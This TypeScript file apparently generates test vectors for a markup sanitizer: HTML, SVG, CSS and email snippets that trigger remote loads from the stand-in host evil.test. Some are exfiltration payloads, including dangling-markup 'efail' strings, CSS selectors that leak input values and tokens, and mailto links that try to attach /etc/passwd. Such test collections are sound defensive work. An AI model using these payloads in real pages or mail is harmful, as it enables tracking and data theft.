/** Ways to have a reader's program ask another server from markup, one string each, each with an address of its own below `evil.test`. */
export function loadVectors(): string[] {
  let last = 0;
  const address = (ending: string) => `https://evil.test/${(last += 1)}.${ending}`;
  return [...elements(address), ...sheets(address), ...declarations(address), ...mail(address)];
}

type Make = (ending: string) => string;

function elements(at: Make): string[] {
  return [
    `<img src="${at('png')}">`,
    `<img src=//evil.test/protocol-relative.png>`,
    `<img src="https:\\\\evil.test\\backslashes.png">`,
    `<img src="http&colon;//evil.test/entity.png">`,
    `<img src=" \thttps://evil.test/white.png">`,
    `<img srcset="${at('png')} 1x, ${at('png')} 2x">`,
    `<img loading=eager crossorigin src="${at('png')}" attributionsrc="${at('json')}">`,
    `<picture><source srcset="${at('webp')}"><img></picture>`,
    `<image src="${at('png')}"><image href="${at('png')}">`,
    `<video src="${at('mp4')}" poster="${at('png')}" autoplay preload=auto><source src="${at('mp4')}"><track default src="${at('vtt')}"></video>`,
    `<audio src="${at('mp3')}" autoplay preload=auto></audio>`,
    `<bgsound src="${at('wav')}"><embed src="${at('swf')}"><object data="${at('pdf')}" classid="${at('x')}" codebase="${at('x')}"></object><applet archive="${at('jar')}" code="${at('class')}"></applet>`,
    `<iframe src="${at('html')}"></iframe><iframe srcdoc="<img src='${at('png')}'>"></iframe><frameset><frame src="${at('html')}"></frameset>`,
    `<fencedframe src="${at('html')}"></fencedframe><portal src="${at('html')}"></portal><model src="${at('usdz')}"></model>`,
    `<body background="${at('png')}"><table background="${at('png')}"><tr background="${at('png')}"><td background="${at('png')}">x</table>`,
    `<input type=image src="${at('png')}"><button style="background:url(${at('png')})">x</button><isindex type=image src="${at('png')}">`,
    ...['stylesheet', 'preload', 'modulepreload', 'prefetch', 'prerender', 'icon', 'manifest', 'import', 'next', 'alternate stylesheet', 'dictionary', 'compression-dictionary', 'apple-touch-icon', 'search', 'pingback'].map(
      (rel) => `<link rel="${rel}" as=image href="${at('x')}" imagesrcset="${at('png')} 1x">`,
    ),
    `<meta http-equiv=refresh content="0;url=${at('html')}">`,
    `<meta http-equiv="Link" content="<${at('css')}>;rel=stylesheet"><meta http-equiv=set-cookie content="a=b">`,
    `<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none'; report-uri ${at('csp')}">`,
    `<base href="https://evil.test/base/"><img src=relative.png><a href=relative>x</a>`,
    `<html manifest="${at('appcache')}"><head profile="${at('x')}">`,
    `<script src="${at('js')}"></script><script type=module>import "${at('js')}"</script><script type=importmap>{"imports":{"x":"${at('js')}"}}</script>`,
    `<svg><image href="${at('png')}" xlink:href="${at('png')}"/><use href="${at('svg')}#x"/><feImage href="${at('png')}"/><script href="${at('js')}"/><style>@import "${at('css')}";</style></svg>`,
    `<svg><rect width=9 height=9 fill="url(${at('svg')}#a)" filter="url(${at('svg')}#b)" mask="url(${at('svg')}#c)" clip-path="url(${at('svg')}#d)" marker-end="url(${at('svg')}#e)" cursor="url(${at('cur')})"/></svg>`,
    `<svg><animate attributeName=href to="${at('png')}" begin=0s dur=1s /><image><set attributeName=href to="${at('png')}" begin=0s /></image></svg>`,
    `<math><mglyph src="${at('png')}"/><annotation-xml encoding="text/html"><img src="${at('png')}"></annotation-xml></math>`,
    `<form action="${at('form')}" method=get><input name=q autofocus><input type=submit></form>`,
    `<a ping="${at('ping')}" href="https://x.test" attributionsrc="${at('json')}" autofocus>x</a>`,
    `<template shadowrootmode=open><img src="${at('png')}"><link rel=stylesheet href="${at('css')}"></template>`,
    `<noscript><img src="${at('png')}"></noscript><noembed><img src="${at('png')}"></noembed><noframes><img src="${at('png')}"></noframes>`,
    `<xml src="${at('xml')}"></xml><layer src="${at('html')}"></layer><ilayer src="${at('html')}"></ilayer><xss behavior="${at('htc')}">`,
    `<menu><menuitem icon="${at('png')}"></menu><command icon="${at('png')}"><div itemscope itemtype="${at('x')}" itemid="${at('x')}">x</div>`,
    `<img src="${at('png')}`,
    `<img src='${at('png')}?`,
    `<a href="https://x.test"><img src="https://evil.test/open?`,
  ];
}

/** Style sheets: at-rules that load, and ordinary rules inside at-rules. */
function sheets(at: Make): string[] {
  const rule = () => `p,body,*{background-image:url(${at('png')})}`;
  return [
    ...[`@import "${at('css')}";`, `@import url(${at('css')});`, `@import url(${at('css')}) layer(x) supports(display:block) screen;`, `@\\69mport "${at('css')}";`, `@IMPORT/**/"${at('css')}";`, `;@import '${at('css')}'`, `@charset "x";@import"${at('css')}"`],
    `@font-face{font-family:x;src:url(${at('woff')})}p{font-family:x}`,
    `@font-face{font-family:y;src:local(none),url("${at('woff2')}") format("woff2")}*{font-family:y}`,
    `@namespace url(${at('x')});@counter-style c{system:cyclic;symbols:url(${at('png')})}ul{list-style:c}`,
    `@keyframes k{from{background:url(${at('png')})}to{background:url(${at('png')})}}*{animation:k 1s infinite}`,
    `@property --p{syntax:"<image>";inherits:true;initial-value:url(${at('png')})}*{background:var(--p)}`,
    `:root{--u:url(${at('png')})}*{background:var(--u)}`,
    `*{background:var(--none, url(${at('png')}))}`,
    `input[value^=a],a[href*=token]{background:url(${at('png')})}`,
    `p::before,p::after{content:url(${at('png')})}p::marker{content:url(${at('png')})}p::first-letter{background:url(${at('png')})}`,
    ...['@media all', '@supports (display:block)', '@layer a', '@container (min-width:1px)', '@scope (body)', '@starting-style', '@media not print', '@-moz-document url-prefix()', '@page', '@when all', 'body'].map((outer) => `${outer}{${rule()}}`),
    `</style><img src="${at('png')}"><style>`,
    `<!--</style><img src="${at('png')}">-->`,
    `p{}/*</style><img src="${at('png')}">*/`,
    `p{background:url("${at('png')}`,
    `p{background:url(${at('png')}`,
    `p{x:"\n";background:url(${at('png')})}`,
    `p{color:red;;background:url(${at('png')})!important}`,
    `p{{}background:url(${at('png')})}`,
    `\0p{background:url(${at('png')})}`,
  ].map((css) => `<style>${css}</style><p>x</p><ul><li>x</ul>`);
}

/** Every property that can load, with every function that can, in disguises. */
function declarations(at: Make): string[] {
  const properties = ['background', 'background-image', 'list-style', 'list-style-image', 'border-image', 'border-image-source', 'content', 'cursor', 'mask', 'mask-image', '-webkit-mask-image', '-webkit-mask-box-image', 'filter', 'backdrop-filter', 'clip-path', 'shape-outside', 'offset-path', 'fill', 'stroke', 'marker', 'src', 'behavior', '-moz-binding', 'border-color', 'color', 'width', 'font-family', '--x', 'all', 'quotes'];
  const functions = [
    (address: string) => `url(${address})`,
    (address: string) => `url("${address}")`,
    (address: string) => `URL( '${address}' )`,
    (address: string) => `u\\72l(${address})`,
    (address: string) => `\\75 \\72 \\6c (${address})`,
    (address: string) => `url/**/(${address})`,
    (address: string) => `url(\\68ttps://evil.test/${address.split('/').at(-1) ?? ''})`,
    (address: string) => `image-set("${address}" 1x)`,
    (address: string) => `-webkit-image-set(url(${address}) 1x)`,
    (address: string) => `image(${address})`,
    (address: string) => `cross-fade(url(${address}), red, 50%)`,
    (address: string) => `src("${address}")`,
    (address: string) => `var(--y, url(${address}))`,
    (address: string) => `if(style(--x), url(${address}))`,
  ];
  return properties.flatMap((property) => functions.map((make) => `<p style='${property}:${make(at('png')).replaceAll("'", '"')} !important'>x</p>`));
}

/** What is tried in mail only. */
function mail(at: Make): string[] {
  return [
    `<!--[if mso]><v:rect><v:fill src="${at('png')}"/></v:rect><v:imagedata src="${at('png')}"/><![endif]-->`,
    `<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill type=frame src="${at('png')}"/><v:image src="${at('png')}"/></v:rect>`,
    `<amp-img src="${at('png')}" width=1 height=1></amp-img><script async src="${at('js')}"></script><amp-list src="${at('json')}"></amp-list>`,
    `<img src="cid:../../../../api/sign-out"><img src="cid:x@y?https://evil.test/"><img src="cid:https://evil.test/c.png">`,
    `<img src="mid:x@y"><img src="x-apple-data-detectors://0"><img src="content-id:x"><img src="imap://evil.test/INBOX">`,
    `<div style="display:none"><img src="${at('gif')}" width=1 height=1 alt=""></div><img src="${at('gif')}" style="mso-hide:all;width:0;height:0">`,
    `<img src="http://efail.evil.test/`,
    `<img src='http://efail.evil.test/"><b>secret</b>`,
    `<a href="mailto:x@y.test?attach=/etc/passwd&bcc=z@evil.test">x</a><a href="mailto:?attachment=file:///etc/passwd">y</a>`,
    `<img dsn="${at('x')}" disposition-notification-to="z@evil.test" src="">`,
    `<link rel="dns-prefetch" href="//dns.evil.test"><link rel=preconnect href="https://pre.evil.test">`,
    `<o:OfficeDocumentSettings><o:x href="${at('x')}"/></o:OfficeDocumentSettings><xml><o:p src="${at('x')}"></o:p></xml>`,
    `<style media="print">body{background:url(${at('png')})}</style><link media=print rel=stylesheet href="${at('css')}">`,
    `<style>@media print{p{background:url(${at('png')})}p::after{content:url(${at('png')})}}@page{background:url(${at('png')})}</style><p>x</p>`,
    `<style>@media (prefers-color-scheme:dark){*{background:url(${at('png')})}}</style><p>x</p>`,
  ];
}
